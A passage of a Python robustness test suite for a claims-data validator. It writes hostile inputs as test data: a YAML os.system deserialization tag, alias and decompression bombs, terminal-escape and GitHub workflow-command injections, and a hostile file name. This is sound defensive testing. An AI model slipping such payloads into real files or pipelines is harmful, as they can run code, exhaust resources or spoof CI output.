    write(d / "claim_coding.yaml", yaml.safe_dump({"codings": codings()}, sort_keys=False))
    return cli(with_claims(d), "--dyads", "claim_dyads.yaml", "--relations",
               "claim_relations.jsonl", "--coding", "claim_coding.yaml")  # fmt: skip


@case(
    "links_csv_nul_in_id",
    "links",
    [
        link_unreadable("claim_dyads.csv"),
        broken(on_link("claim_id_pattern", "claim_dyads.csv", 3, "claim_id")),
    ],
    "a NUL byte inside a dyad's claim_id (in the first 64 KiB: a 'binary' file, readable); or "
    "the id's pattern at its row; the NUL never printed raw",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = dyads()
    rows[1]["claim_id"] = "IRR-NULTOKEN"
    data = link_csv(rows, DYAD_COLUMNS).encode().replace(b"NULTOKEN", b"00\x0002")
    write(d / "claim_dyads.csv", data)
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_csv_utf16_bom",
    "links",
    link_unreadable("claim_relations.csv"),
    "a relations CSV in UTF-16 with a byte order mark",
)
def _(d: Path) -> Invocation:
    write(d / "claim_relations.csv", link_csv(edges(), RELATION_COLUMNS).encode("utf-16"))
    return cli(with_claims(d), "--relations", "claim_relations.csv")


@case(
    "links_csv_latin1_mid_file",
    "links",
    link_unreadable("claim_dyads.csv", row=1501),
    "a Latin-1 byte in row 1501 of a dyads CSV (past the first 64 KiB): not UTF-8, located at "
    "its row as in a claims CSV (csv_invalid_utf8_mid_file)",
)
def _(d: Path) -> Invocation:
    rows = dyads(1) * 2000
    rows[1499] = dict(rows[1499], quad_class="LATINTOKEN")
    data = link_csv(rows, DYAD_COLUMNS).encode().replace(b"LATINTOKEN", b"caf\xe9")
    write(d / "claim_dyads.csv", data)
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_sparse_70mb_file",
    "links",
    link_unreadable("claim_relations.csv"),
    "a 70 MB relations CSV (sparse: nothing on disk), over the 64 MiB a link file is read "
    "whole up to: refused by its size, before a byte is read",
    timeout=30,
)
def _(d: Path) -> Invocation:
    with (d / "claim_relations.csv").open("wb") as f:
        f.truncate(70 * 1000 * 1000)
    return cli(with_claims(d), "--relations", "claim_relations.csv")


@case(
    "links_json_100k_nested_arrays",
    "links",
    link_unreadable("claim_relations.json"),
    "the relations file is 100,000 nested arrays: deeper than a parser follows",
)
def _(d: Path) -> Invocation:
    write(d / "claim_relations.json", nested(100_000))
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_json_deeply_nested_field",
    "links",
    [
        link_unreadable("claim_relations.json", row=2),
        broken(on_link(("type", "ground_vocabulary"), "claim_relations.json", 2, "ground")),
    ],
    "edge 2's ground nests 100,000 arrays: refused as too deep at record 2 (the policy: the "
    "row where the record is known), or a wrong type there",
)
def _(d: Path) -> Invocation:
    rows = edges()
    rows[1]["ground"] = "DEEPTOKEN"
    write(d / "claim_relations.json", json_text(rows, {"DEEPTOKEN": nested(100_000)}))
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_json_900_nested_value",
    "links",
    [
        broken(on_link(("type", "ground_vocabulary"), "claim_relations.json", 1, "ground")),
        link_unreadable("claim_relations.json", row=1),
    ],
    "edge 1's ground nests 900 arrays (json parses it: under the recursion limit): a wrong "
    "type, whose value the report shows (shortened) without recursing past the limit",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = edges()
    rows[0]["ground"] = "DEEPTOKEN"
    write(d / "claim_relations.json", json_text(rows, {"DEEPTOKEN": nested(900, inner="1")}))
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_json_duplicate_key",
    "links",
    [
        broken(on_link("no_extra_fields", "claim_relations.json", 2, "relation")),
        link_unreadable("claim_relations.json", row=2),
    ],
    "edge 2 gives 'relation' twice: a located problem at record 2, as for claims "
    "(json_duplicate_keys: no_extra_fields), or refused naming record 2",
)
def _(d: Path) -> Invocation:
    text = json_text(edges()).replace('"relation": "supports"', "DUPTOKEN", 2)
    text = text.replace("DUPTOKEN", '"relation": "supports"', 1)
    text = text.replace("DUPTOKEN", '"relation": "supports", "relation": "elaborates"', 1)
    write(d / "claim_relations.json", text)
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_json_5000_digit_integer",
    "links",
    [
        broken(on_link("type", "claim_dyads.json", 2, "mutual")),
        link_unreadable("claim_dyads.json", row=2),
    ],
    "dyad 2's mutual is a 5000-digit integer (Python's json refuses to convert it): a type "
    "problem, or refused, at record 2",
)
def _(d: Path) -> Invocation:
    rows = dyads()
    rows[1]["mutual"] = "INTTOKEN"
    write(d / "claim_dyads.json", json_text(rows, {"INTTOKEN": HUGE_INT}))
    return cli(with_claims(d), "--dyads", "claim_dyads.json")


@case("links_json_top_level_scalar", "links", link_unreadable("claim_coding.json"),
      "the coding file is the number 42")  # fmt: skip
def _(d: Path) -> Invocation:
    write(d / "claim_coding.json", "42\n")
    return cli(with_claims(d), "--coding", "claim_coding.json")


@case(
    "links_json_object_without_key",
    "links",
    link_unreadable("claim_relations.json"),
    "the relations file is an object holding its list under 'edges', not 'relations'",
)
def _(d: Path) -> Invocation:
    write(d / "claim_relations.json", json.dumps({"edges": edges()}))
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_json_records_not_objects",
    "links",
    broken(
        on_link("type", "claim_relations.json", 1),
        on_link("type", "claim_relations.json", 2),
        on_link("type", "claim_relations.json", 3),
        on_link("type", "claim_relations.json", 4),
    ),
    "the relations list holds null, 5, a string and a list: each not a record, at its row",
)
def _(d: Path) -> Invocation:
    write(d / "claim_relations.json", '[null, 5, "IRR-0001 -> IRR-0002", []]\n')
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_json_booleans_as_strings",
    "links",
    broken(
        on_link("type", "claim_dyads.json", 1, "mutual"),
        on_link("type", "claim_dyads.json", 2, "mutual"),
        on_link("type", "claim_dyads.json", 3, "mutual"),
        on_link("type", "claim_dyads.json", 4, "mutual"),
    ),
    'mutual as the strings "true" and "false" and the numbers 1 and 0: a JSON boolean '
    "column takes true or false",
)
def _(d: Path) -> Invocation:
    rows = [dict(r, mutual=m) for r, m in zip(dyads(1) * 4, ["true", "false", 1, 0])]
    for i, row in enumerate(rows, start=1):
        row["claim_id"] = f"IRR-{i:04d}"
    write(d / "claim_dyads.json", json.dumps(rows, indent=1))
    return cli(with_claims(d, 4), "--dyads", "claim_dyads.json")


SURROGATE_LINK = "claim_relations.json"


@case(
    "links_json_lone_surrogates",
    "links",
    [
        link_unreadable(SURROGATE_LINK, row=1),
        broken(
            on_link(("ground_vocabulary", "type"), SURROGATE_LINK, 1, "ground"),
            on_link(("from_id_pattern", "type"), SURROGATE_LINK, 2, "from_id"),
        ),
    ],
    "edge 1's ground is a lone surrogate (\\ud800), edge 2's from_id ends in \\udc9b[2J (the "
    "raw byte 0x9B, a one-byte CSI, if written with surrogateescape): located like text that "
    "is not UTF-8, or each cell's own rule; the id (part of the record's name) never raw",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = edges()
    rows[0]["ground"] = "SURTOKEN1"
    rows[1]["from_id"] = "SURTOKEN2"
    text = json_text(rows, {"SURTOKEN1": '"\\ud800"', "SURTOKEN2": '"IRR-0002\\udc9b[2J"'})
    write(d / SURROGATE_LINK, text)
    return cli(with_claims(d), "--relations", SURROGATE_LINK)


@case(
    "links_jsonl_2mb_line",
    "links",
    [
        link_unreadable("claim_relations.jsonl", row=2),
        broken(on_link("ground_vocabulary", "claim_relations.jsonl", 2, "ground")),
    ],
    "line 2 of a relations JSON Lines file is 2 MB (its ground): over the 1 MiB a JSON Lines "
    "line may take (refused at line 2), or the ground's vocabulary, the value shortened",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = edges()
    rows[1]["ground"] = "g" * 2_000_000
    write(d / "claim_relations.jsonl", jsonl_text(rows))
    return cli(with_claims(d), "--relations", "claim_relations.jsonl")


@case(
    "links_yaml_billion_laughs",
    "links",
    [
        link_unreadable("claim_dyads.yaml"),
        broken(on_link("no_extra_fields", "claim_dyads.yaml", 1, "lols")),
    ],
    "dyad 1 has an extra field of nested aliases (9^9 leaves from 1.9 KB): refused, or named "
    "as an extra field without expanding it",
)
def _(d: Path) -> Invocation:
    rows = dyads()
    rows[0]["lols"] = "LOLTOKEN"
    text = yaml.safe_dump({"dyads": rows}, sort_keys=False).replace("LOLTOKEN", "*l9")
    write(d / "claim_dyads.yaml", _laughs(text))
    return cli(with_claims(d), "--dyads", "claim_dyads.yaml")


@case(
    "links_yaml_self_referential_alias",
    "links",
    [
        link_unreadable("claim_dyads.yaml"),
        broken(on_link("type", "claim_dyads.yaml", 1, "source")),
    ],
    "dyad 1's source is &r [*r], a list that holds itself: refused, or a wrong type at its "
    "row (a report showing the value must not recurse forever)",
    formats=("json", "text"),
)
def _(d: Path) -> Invocation:
    rows = dyads()
    rows[0]["source"] = "SRCTOKEN"
    text = yaml.safe_dump({"dyads": rows}, sort_keys=False).replace("SRCTOKEN", "&r [*r]")
    write(d / "claim_dyads.yaml", text)
    return cli(with_claims(d), "--dyads", "claim_dyads.yaml")


@case(
    "links_yaml_python_tag",
    "links",
    link_unreadable("claim_coding.yaml"),
    "a coding's claim_id is a !!python/object/apply tag: a safe loader refuses it, nothing runs",
    after=lambda d: _no_pwned(d),
)
def _(d: Path) -> Invocation:
    write(
        d / "claim_coding.yaml",
        "codings:\n  - {claim_id: !!python/object/apply:os.system ['touch pwned'], "
        "coded_by: pass1, codebook_version: '1.1'}\n",
    )
    return cli(with_claims(d), "--coding", "claim_coding.yaml")


@case(
    "links_yaml_wrong_key",
    "links",
    link_unreadable("claim_coding.yaml"),
    "the file given as --coding holds its list under 'dyads:', not 'codings:'",
)
def _(d: Path) -> Invocation:
    write(d / "claim_coding.yaml", yaml.safe_dump({"dyads": codings()}, sort_keys=False))
    return cli(with_claims(d), "--coding", "claim_coding.yaml")


def link_table(rows: list[dict[str, Any]], columns: Iterable[str]) -> Any:
    import pyarrow as pa

    types = {"mutual": pa.bool_()}
    schema = pa.schema([(c, types.get(c, pa.string())) for c in columns])
    return pa.Table.from_pylist(rows, schema=schema)


@case(
    "links_parquet_dictionary_bomb",
    "links",
    [
        link_unreadable("claim_dyads.parquet"),
        Outcome(
            1,
            (on_link("quad_class_vocabulary", "claim_dyads.parquet", 1, "quad_class"),),
            counts=(("quad_class_vocabulary", 30_000),),
        ),
    ],
    "30,000 dyads whose dictionary-encoded quad_class is one 100 KB value (a small file, 3 GB "
    "once decoded): refused as a bomb, or checked in bounded memory (as for a claims file: "
    "parquet_dictionary_bomb)",
    timeout=30,
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    n = 30_000
    base = link_table(dyads(1) * n, DYAD_COLUMNS)
    value = pa.array(["verbal_cooperation" + "x" * 100_000])
    column = pa.DictionaryArray.from_arrays(pa.array([0] * n, pa.int32()), value)
    table = base.set_column(DYAD_COLUMNS.index("quad_class"), "quad_class", column)
    _pq_write(
        table,
        d / "claim_dyads.parquet",
        compression="zstd",
        dictionary_pagesize_limit=4 * MiB,
        store_schema=False,
    )
    return cli(with_claims(d), "--dyads", "claim_dyads.parquet")


@case(
    "links_parquet_200mb_cell_zstd",
    "links",
    link_unreadable("claim_coding.parquet"),
    "a coding whose codebook_version is one 200 MB value, zstd-compressed to a tiny file: "
    "refused before it is decompressed (pages over 16 x the file + 64 MiB)",
    timeout=30,
)
def _(d: Path) -> Invocation:
    rows = codings()
    rows[0]["codebook_version"] = "1" * 200_000_000
    _pq_write(link_table(rows, CODING_COLUMNS), d / "claim_coding.parquet", compression="zstd")
    return cli(with_claims(d), "--coding", "claim_coding.parquet")


@case(
    "links_parquet_wrong_types",
    "links",
    broken(
        on_link("type", "claim_dyads.parquet", 1, "claim_id"),
        on_link("type", "claim_dyads.parquet", 1, "mutual"),
        on_link("type", "claim_dyads.parquet", 2, "mutual"),
    ),
    "a dyads Parquet whose claim_id column is int64 and mutual a string column ('true')",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = link_table(dyads(2), DYAD_COLUMNS)
    table = table.set_column(0, "claim_id", pa.array([1, 2], pa.int64()))
    table = table.set_column(3, "mutual", pa.array(["true", "yes"]))
    _pq_write(table, d / "claim_dyads.parquet")
    return cli(with_claims(d), "--dyads", "claim_dyads.parquet")


@case(
    "links_parquet_million_duplicate_edges",
    "links",
    [
        Outcome(
            1,
            (on_link("edge_unique", "claim_relations.parquet"),),
            counts=(("edge_unique", 999_999),),
        ),
        link_unreadable("claim_relations.parquet"),
    ],
    "a million copies of one valid edge (a 22 KB Parquet file: within the claims' one record "
    "per byte plus 2^20, over a link file's plus 2^16): every copy but one breaks edge_unique, "
    "counted, 1000 listed, within "
    "the memory of a 22 KB input and in seconds; or refused as more records than a link file "
    "of its size may hold",
    timeout=30,
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    n = 1_000_000
    one = edges(2)[0]
    table = pa.table({c: pa.array([one[c]] * n) for c in RELATION_COLUMNS})
    _pq_write(table, d / "claim_relations.parquet", compression="zstd")
    return cli(with_claims(d), "--relations", "claim_relations.parquet")


@case(
    "links_csv_mutual_spellings",
    "links",
    broken(
        on_link("type", "claim_dyads.csv", 4, "mutual"),
        on_link("type", "claim_dyads.csv", 5, "mutual"),
    ),
    "mutual written TRUE, 1, yes, ' true': a CSV boolean cell takes the spellings of "
    "vocab.TRUE_VALUES and FALSE_VALUES (Frictionless's, stated in the data package: TRUE and "
    "1 are true); anything else is a located type problem, never a value silently taken as "
    "true or false",
)
def _(d: Path) -> Invocation:
    rows = dyads(4)
    for row, text in zip(rows, ["TRUE", "1", "yes", " true"]):
        row["mutual"] = text
    write(d / "claim_dyads.csv", link_csv(rows, DYAD_COLUMNS))
    return cli(with_claims(d, 4), "--dyads", "claim_dyads.csv")


LINK_ESCAPES = {
    "claim_id": "IRR-0001\x1b[2J\x1b]0;pwned\x07",
    "source": "\u202eNRI",
    "quad_class": "::error file=evil.py,line=1::pwned",
    "target": "RUS\n::add-mask::x\n##[error]pwned",
}


@case(
    "links_escapes_in_values",
    "links",
    broken(
        on_link("claim_id_pattern", "claim_dyads.csv", 2, "claim_id"),
        on_link("source_pattern", "claim_dyads.csv", 3, "source"),
        on_link("quad_class_vocabulary", "claim_dyads.csv", 4, "quad_class"),
        on_link("target_pattern", "claim_dyads.csv", column="target"),
        on_link("from_id_pattern", "claim_relations.jsonl", 1, "from_id"),
    ),
    "terminal escapes, a right-to-left override, workflow commands (::error, ::add-mask, "
    "##[error]) and line breaks in dyad ids and values, and in an edge's from_id (which also "
    "names the record): each a rule problem, none shown raw, no output line a workflow command",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = dyads(4)
    for row, (column, value) in zip(rows, LINK_ESCAPES.items()):
        row[column] = value
    write(d / "claim_dyads.csv", link_csv(rows, DYAD_COLUMNS))
    chain = edges()
    chain[0]["from_id"] = "\x1b[31mIRR-0001\x1b[0m\n::error::pwned"
    write(d / "claim_relations.jsonl", jsonl_text(chain))
    return cli(with_claims(d, 4), "--dyads", "claim_dyads.csv", "--relations",
               "claim_relations.jsonl")  # fmt: skip


@case(
    "links_csv_quoted_newline_rows",
    "links",
    broken(
        on_link("quad_class_vocabulary", "claim_dyads.csv", 2, "quad_class"),
        on_link("source_pattern", "claim_dyads.csv", 3, "source"),
    ),
    "dyad row 2's quad_class is quoted and holds a line break; row 3's source is lower case: "
    "rows are the file's rows, the header row 1 (row_means), not the line a record ends on",
)
def _(d: Path) -> Invocation:
    rows = dyads()
    rows[0]["quad_class"] = "verbal_\ncooperation"
    rows[1]["source"] = "irn"
    write(d / "claim_dyads.csv", link_csv(rows, DYAD_COLUMNS))
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_supports_cycle_200k",
    "links",
    Outcome(
        1,
        (on_link("supports_acyclic", "claim_relations.parquet", 1),),
        counts=(("supports_acyclic", 200_000), ("from_exists", 200_000)),
    ),
    "200,000 supports edges forming one cycle (a 1 MB Parquet file; 11 MB as CSV, within the "
    "64 MiB read whole), between claims the claims file lacks: every edge is on the cycle "
    "and names unknown claims; counted in seconds (the cycle check is linear), 1000 listed",
    timeout=30,
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    n = 200_000
    ids = [f"IRR-{100_000 + i}" for i in range(n)]
    one = edges(2)[0]
    table = pa.table(
        {
            "from_id": ids,
            "to_id": ids[1:] + ids[:1],
            **{c: pa.array([one[c]] * n) for c in RELATION_COLUMNS[2:]},
        }
    )
    _pq_write(table, d / "claim_relations.parquet", compression="zstd")
    return cli(with_claims(d), "--relations", "claim_relations.parquet")


CHAIN_SCRIPT = """
import json
import sys
import time

import polars as pl

from iran_russia_claims.spec.evaluate import find_failures
from iran_russia_claims.spec.link_rules import joined
from iran_russia_claims.spec.problem import Problem
from iran_russia_claims.spec.rules import RULES, Context
from iran_russia_claims.validation.links import claim_keys
from iran_russia_claims.validation.report import ValidationReport, render_json

n = 1_000_000
ids = [f"IRR-{1_000_000 + i}" for i in range(n + 1)]
frame = pl.DataFrame(
    {
        "from_id": ids[:-1] + [ids[n // 2]],  # a chain, and one edge back: a cycle of n/2
        "to_id": ids[1:] + [ids[1]],
        "relation": ["supports"] * (n + 1),
        "ground": ["connective"] * (n + 1),
        "coded_by": ["pass1"] * (n + 1),
        "codebook_version": ["1.1"] * (n + 1),
    }
)
rows = joined("claim_relations", frame, claim_keys([]))
report = ValidationReport(target="<1M-edge chain>", format="dataframe")
report.rows = frame.height
started = time.monotonic()
failures = find_failures(rows, Context(), [RULES["supports_acyclic"]])
print(f"supports_acyclic on {frame.height} edges: {time.monotonic() - started:.1f} s",
      file=sys.stderr)
for name, positions in failures.positions.items():
    for position in positions.tolist():
        report.add(Problem(name, "on a cycle", "<1M-edge chain>", row=position + 1))
sys.stdout.write(json.dumps(render_json([report]), indent=2) + "\\n")
sys.exit(report.exit_code())
"""


def _chain_script(d: Path) -> Invocation:
    write(d / "case.py", CHAIN_SCRIPT)
    return Invocation(script="case.py", inputs=("<1M-edge chain>",))


case(
    "links_supports_chain_1m_api",
    "links",
    Outcome(
        1,
        (Expect("supports_acyclic", 2, file=None),),
        counts=(("supports_acyclic", 500_000),),
    ),
    "the supports_acyclic rule alone on a chain of a million edges and one edge back, which "
    "closes a cycle of 500,000 (edges 2 to 500,000 and the last; Tarjan, iterative: no "
    "recursion limit), in the time and memory of the 56 MB CSV file these edges make",
    input_bytes=56_000_000,
    timeout=60,
)(_chain_script)


@case(
    "links_fifo",
    "links",
    link_unreadable("claim_dyads.csv"),
    "the dyads file is a FIFO with no writer: refused as not a regular file, never waited on",
    skip=NO_FIFO,
    timeout=30,
)
def _(d: Path) -> Invocation:
    _fifo(d / "claim_dyads.csv")
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_dev_zero",
    "links",
    link_unreadable("claim_relations.jsonl"),
    "the relations file is a symlink to /dev/zero: not a regular file, refused promptly",
    timeout=30,
)
def _(d: Path) -> Invocation:
    _symlink("/dev/zero", d / "claim_relations.jsonl")
    return cli(with_claims(d), "--relations", "claim_relations.jsonl")


@case(
    "links_directory",
    "links",
    link_unreadable("claim_relations.json"),
    "a directory named claim_relations.json",
)
def _(d: Path) -> Invocation:
    (d / "claim_relations.json").mkdir()
    return cli(with_claims(d), "--relations", "claim_relations.json")


@case(
    "links_missing_file",
    "links",
    [link_unreadable("no_such_coding.csv"), Outcome(2, stderr_has=("no_such_coding.csv",))],
    "--coding names a file that is not there: exit 2 naming it (a readable problem, or a "
    "usage error)",
    report=False,
)
def _(d: Path) -> Invocation:
    return cli(with_claims(d), "--coding", "no_such_coding.csv")


@case(
    "links_unknown_extension",
    "links",
    link_unreadable("claim_dyads.txt"),
    "a dyads file named .txt: no link format has that extension",
)
def _(d: Path) -> Invocation:
    write(d / "claim_dyads.txt", link_csv(dyads(), DYAD_COLUMNS))
    return cli(with_claims(d), "--dyads", "claim_dyads.txt")


@case(
    "links_proc_file_size_zero",
    "links",
    broken(on_link(("required", "no_extra_fields"), "claim_coding.csv")),
    "the coding file links to /proc/self/status: a regular file whose size reads 0 but which "
    "holds text; read as CSV it has none of the coding columns",
)
def _(d: Path) -> Invocation:
    _symlink("/proc/self/status", d / "claim_coding.csv")
    return cli(with_claims(d), "--coding", "claim_coding.csv")


@case(
    "links_claims_unreadable",
    "links",
    unreadable(),
    "the claims file is UTF-16 while valid link files are given: the claims file is the "
    "report's readable problem (exit 2), nothing raised for the links it cannot check",
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(records()).encode("utf-16"))
    write(d / "claim_dyads.csv", link_csv(dyads(), DYAD_COLUMNS))
    write(d / "claim_coding.csv", link_csv(codings(), CODING_COLUMNS))
    return cli("claims.csv", "--dyads", "claim_dyads.csv", "--coding", "claim_coding.csv")


@case(
    "links_unreadable_beside_broken_claims",
    "links",
    Outcome(
        2,
        (
            Expect("confidence_range", 2, "confidence"),
            on_link("readable", "claim_dyads.json"),
            on_link("claim_coded", "claim_coding.csv"),
        ),
    ),
    "a claims file that breaks a rule, an unreadable dyads file and a coding file that misses "
    "a claim: exit 2 (the worst), each problem listed, the coding still checked",
)
def _(d: Path) -> Invocation:
    write(d / "claims.csv", csv_text(changed(3, {0: {"confidence": 1.5}})))
    write(d / "claim_dyads.json", "[{")
    write(d / "claim_coding.csv", link_csv(codings(2), CODING_COLUMNS))
    return cli("claims.csv", "--dyads", "claim_dyads.json", "--coding", "claim_coding.csv")


@case(
    "links_csv_300_extra_columns",
    "links",
    broken(on_link("no_extra_fields", "claim_dyads.csv", 2, "x001")),
    "300 extra columns beside the dyad columns",
)
def _(d: Path) -> Invocation:
    extra = [f"x{i:03d}" for i in range(1, 301)]
    rows = [dict(r, **dict.fromkeys(extra, "1")) for r in dyads()]
    write(d / "claim_dyads.csv", link_csv(rows, [*DYAD_COLUMNS, *extra]))
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_csv_header_only",
    "links",
    ok(),
    "dyads and relations files holding only their header: no dyad, no edge, both valid",
)
def _(d: Path) -> Invocation:
    write(d / "claim_dyads.csv", link_csv([], DYAD_COLUMNS))
    write(d / "claim_relations.csv", link_csv([], RELATION_COLUMNS))
    return cli(with_claims(d), "--dyads", "claim_dyads.csv", "--relations", "claim_relations.csv")


@case(
    "links_coding_header_only",
    "links",
    Outcome(1, (on_link("claim_coded", "claim_coding.csv"),), counts=(("claim_coded", 3),)),
    "a coding file holding only its header: every claim of the claims file is uncoded",
)
def _(d: Path) -> Invocation:
    write(d / "claim_coding.csv", link_csv([], CODING_COLUMNS))
    return cli(with_claims(d), "--coding", "claim_coding.csv")


@case(
    "links_csv_more_cells_than_header",
    "links",
    broken(on_link("no_extra_fields", "claim_dyads.csv", 3)),
    "dyad row 3 has three cells more than the header: a located problem, no cell dropped silently",
)
def _(d: Path) -> Invocation:
    lines = link_csv(dyads(), DYAD_COLUMNS).splitlines(keepends=True)
    lines[2] = lines[2].rstrip("\n") + ",x,y,z\n"
    write(d / "claim_dyads.csv", "".join(lines))
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_csv_fewer_cells_than_header",
    "links",
    broken(on_link("required", "claim_dyads.csv", 2, "quad_class")),
    "dyad row 2 stops after mutual: its quad_class, coded_by and codebook_version are missing",
)
def _(d: Path) -> Invocation:
    lines = link_csv(dyads(), DYAD_COLUMNS).splitlines(keepends=True)
    lines[1] = ",".join(lines[1].split(",")[:4]) + "\n"
    write(d / "claim_dyads.csv", "".join(lines))
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_csv_utf8_bom",
    "links",
    ok(),
    "a UTF-8 byte order mark before a valid dyads CSV (as Excel writes it): valid, as for a "
    "claims CSV (csv_utf8_bom); the BOM must not become part of the first column's name",
)
def _(d: Path) -> Invocation:
    write(d / "claim_dyads.csv", b"\xef\xbb\xbf" + link_csv(dyads(), DYAD_COLUMNS).encode())
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_csv_duplicate_header",
    "links",
    broken(on_link("no_extra_fields", "claim_dyads.csv", 1, "claim_id")),
    "the dyads header names claim_id twice (IRR-0001, then IRR-0002 in each row): the repeat "
    "is a problem of the header, as for a claims CSV (csv_header_same_name_20000_times), "
    "never one of the two values silently dropped",
)
def _(d: Path) -> Invocation:
    rows = [dict(r, again=f"IRR-{i + 2:04d}") for i, r in enumerate(dyads(2))]
    text = link_csv(rows, [*DYAD_COLUMNS, "again"]).replace(",again\n", ",claim_id\n", 1)
    write(d / "claim_dyads.csv", text)
    return cli(with_claims(d), "--dyads", "claim_dyads.csv")


@case(
    "links_parquet_duplicate_column",
    "links",
    broken(on_link("no_extra_fields", "claim_coding.parquet", column="claim_id")),
    "a coding Parquet with two columns named claim_id (IRR-0001.. and IRR-9001..): a located "
    "problem, never one column silently dropped",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = link_table(codings(), CODING_COLUMNS)
    table = table.append_column("claim_id", pa.array(["IRR-9001", "IRR-9002", "IRR-9003"]))
    _pq_write(table, d / "claim_coding.parquet")
    return cli(with_claims(d), "--coding", "claim_coding.parquet")


@case(
    "links_jsonl_bad_line",
    "links",
    link_unreadable("claim_relations.jsonl", row=3),
    "line 3 of a relations JSON Lines file is cut short ('{\"from_id\": '): refused at line 3",
)
def _(d: Path) -> Invocation:
    lines = jsonl_text(edges(4)).splitlines(keepends=True)
    lines.insert(2, '{"from_id": \n')
    write(d / "claim_relations.jsonl", "".join(lines))
    return cli(with_claims(d, 4), "--relations", "claim_relations.jsonl")


HOSTILE_LINK_NAME = "dyads\x1b[2J\n::error file=evil.py,line=1::pwned\u202e.csv"


@case(
    "links_hostile_file_name",
    "links",
    broken(on_link("source_pattern", HOSTILE_LINK_NAME, 2, "source")),
    "a dyads file named with a clear-screen escape, a line break, a workflow command and a "
    "right-to-left override, holding a dyad whose source breaks its pattern: the name shown "
    "escaped in every format, the github command naming it as GitHub escapes a property",
    formats=ALL_FORMATS,
)
def _(d: Path) -> Invocation:
    rows = dyads()
    rows[0]["source"] = "irn"
    write(d / HOSTILE_LINK_NAME, link_csv(rows, DYAD_COLUMNS))
    return cli(with_claims(d), "--dyads", HOSTILE_LINK_NAME)


@case(
    "parquet_duplicate_column",
    "parquet",
    [broken(Expect("no_extra_fields", column="id")), unreadable()],
    "a claims Parquet file with a second column named id (found beside the link cases): the "
    "repeat named (as api_duplicated_columns), or the file refused; never 'this is a bug'",
)
def _(d: Path) -> Invocation:
    import pyarrow as pa

    table = parquet_table(records()).append_column(
        "id", pa.array(["IRR-9001", "IRR-9002", "IRR-9003"])
    )
    _pq_write(table, d / "claims.parquet")
    return cli("claims.parquet")


def by_name() -> dict[str, Case]:
    return {c.name: c for c in CASES}


def input_bytes(folder: Path) -> int:
    """Bytes of the regular files under ``folder`` (symlinks and special files count 0)."""
    total = 0
    for root, dirs, files in os.walk(folder):
        for name in [*files, *dirs]:
            info = os.lstat(os.path.join(root, name))
            if stat.S_ISREG(info.st_mode):
                total += info.st_size
    return total


__all__ = ["CASES", "FIRST", "Case", "Expect", "Invocation", "Outcome", "by_name"]
